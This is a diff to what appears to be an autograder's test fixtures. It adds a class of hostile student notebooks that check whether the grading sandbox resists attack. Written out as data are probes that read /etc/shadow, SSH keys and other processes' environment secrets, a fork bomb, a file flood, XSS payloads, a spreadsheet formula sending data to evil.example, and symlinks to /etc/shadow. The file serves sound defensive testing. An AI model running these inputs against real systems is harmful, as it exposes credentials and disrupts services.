@@ -447,3 +447,119 @@ def __getattr__(name: str):
     if name == "EXPECTED":  # computed on first use: see expected()
         return expected()
     raise AttributeError(f"module {__name__!r} has no attribute {name!r}")
+
+
+# ------------------------------------------------------------------------------------------
+# The server class: submissions that attack the machine the grader runs on (issue 8).
+# Graded by tests/test_server_security.py through the CLI; kept apart from the demo class.
+
+#: What the student code checks about itself; printed as one dict.
+SERVER_PROBE = '''import os
+import pathlib
+PROBE = {"uid": os.getuid(), "gid": os.getgid(), "groups": os.getgroups()}
+for line in pathlib.Path("/proc/self/status").read_text().splitlines():
+    if line.startswith(("CapEff", "CapPrm", "CapBnd", "NoNewPrivs")):
+        PROBE[line.split(":")[0]] = line.split()[1]
+PROBE["etc"] = sorted(os.listdir("/etc"))
+for label, path in {"shadow": "/etc/shadow", "gshadow": "/etc/gshadow",
+                    "ssh host key": "/etc/ssh/ssh_host_ed25519_key",
+                    "ssl private": "/etc/ssl/private", "pip config": "/etc/pip.conf",
+                    "root home": "/root/.bash_history"}.items():
+    try:
+        pathlib.Path(path).read_bytes()
+        PROBE[label] = "READ IT"
+    except Exception as exc:
+        PROBE[label] = type(exc).__name__
+PROBE["passwd"] = pathlib.Path("/etc/passwd").read_text().count("\\n")
+print(PROBE)'''
+
+#: Reads every environment in the sandbox's /proc and reports which secrets it saw.
+PROC_PROBE = '''import os
+import pathlib
+SEEN = {"pids": sorted(int(p.name) for p in pathlib.Path("/proc").iterdir()
+                       if p.name.isdigit())}
+text = b""
+for path in pathlib.Path("/proc").glob("*/environ"):
+    try:
+        text += path.read_bytes()
+        SEEN.setdefault("read", []).append(path.parent.name)
+    except OSError as exc:
+        SEEN.setdefault("refused", []).append(path.parent.name)
+text += "\\0".join(f"{k}={v}" for k, v in os.environ.items()).encode()
+SEEN["keys"] = sorted(os.environ)
+SEEN["leaked"] = [word for word in ("CRM_TEST_SECRET", "DATABASE_URL", "s3cr3t")
+                  if word.encode() in text]
+print(SEEN)'''
+
+FORK_BOMB = '''import os
+import time
+children = 0
+while True:  # every child holds its slot: the cap must stop this, not the time limit
+    if os.fork() == 0:
+        time.sleep(10**6)
+        os._exit(0)
+    children += 1'''
+
+FILE_FLOOD = '''import pathlib
+flood = pathlib.Path("flood")
+flood.mkdir()
+made = 0
+try:
+    for i in range(10**6):
+        (flood / f"f{i}").write_bytes(b"")
+        made += 1
+finally:
+    print("files made:", made)'''
+
+SCRIPTS = '''from IPython.display import HTML, Javascript, display
+display(HTML('<script>window.PWNED_OUTPUT = 1</script><b onmouseover="alert(3)">bold</b>'))
+display(Javascript("window.PWNED_JS = 1"))'''
+
+SCRIPT_MARKDOWN = ('My notes <script>window.PWNED_MARKDOWN = 1</script>\n\n'
+                   '<img src="x" onerror="window.PWNED_IMG = 1">\n\n'
+                   '[click me](javascript:window.PWNED_LINK=1)')
+
+#: A folder name a spreadsheet would run, and one a browser would.
+FORMULA_ID = '=HYPERLINK("evil.example?leak="&A1,"click")'
+HTML_ID = '<img src=x onerror=alert(1)>'
+
+
+def build_server_class(folder: str | Path) -> dict[str, tuple[float, str]]:
+    """Write the server class into ``folder``; return each student's (score, status).
+
+    Every student who runs is right (14 points) on top of the attack, so a
+    score below that means the attack cost a grade; the refused ones get 0.
+    """
+    folder = Path(folder)
+    release = nbformat.read(EXERCISES_DIR / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
+    full = _fill(release, _solution_code())
+    last = full.cells[-1].metadata.get("nbgrader", {}).get("grade_id")
+    notebooks = {
+        "sv_reads_etc": _insert_after(full, "ch05_setup", SERVER_PROBE),
+        "sv_reads_proc": _insert_after(full, "ch05_setup", PROC_PROBE),
+        "sv_fork_bomb": _insert_after(full, "ch05_q4", FORK_BOMB),
+        "sv_file_flood": _insert_after(full, last, FILE_FLOOD, index=len(full.cells)),
+        "sv_scripts": _insert_after(full, "ch05_setup", SCRIPTS),
+        FORMULA_ID: copy.deepcopy(full),
+        HTML_ID: copy.deepcopy(full),
+        "sv_link_inside": copy.deepcopy(full),
+    }
+    md = nbformat.v4.new_markdown_cell(SCRIPT_MARKDOWN)
+    notebooks["sv_scripts"].cells.insert(1, md)
+    for sid, nb in notebooks.items():
+        (folder / sid).mkdir(parents=True, exist_ok=True)
+        nbformat.write(nb, folder / sid / f"{ASSIGNMENT}.ipynb")
+    solution = SOLUTIONS_DIR / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
+    (folder / "sv_links_solution").mkdir(parents=True, exist_ok=True)
+    (folder / "sv_links_solution" / f"{ASSIGNMENT}.ipynb").symlink_to(solution)
+    (folder / "sv_link_inside" / "notes.txt").symlink_to("/etc/shadow")
+    (folder / "sv_folder_is_link").symlink_to(solution.parent)
+    (folder / "-sv_error_text").mkdir(parents=True, exist_ok=True)
+    (folder / "-sv_error_text" / "=1+2.ipynb").write_text('{"cells": [', encoding="utf-8")
+    return {
+        "sv_reads_etc": (14.0, "ok"), "sv_reads_proc": (14.0, "ok"),
+        "sv_fork_bomb": (14.0, "process-limit"), "sv_file_flood": (14.0, "file-limit"),
+        "sv_scripts": (14.0, "ok"), FORMULA_ID: (14.0, "ok"), HTML_ID: (14.0, "ok"),
+        "sv_links_solution": (0.0, "refused"), "sv_link_inside": (0.0, "refused"),
+        "sv_folder_is_link": (0.0, "refused"), "-sv_error_text": (0.0, "unreadable"),
+    }
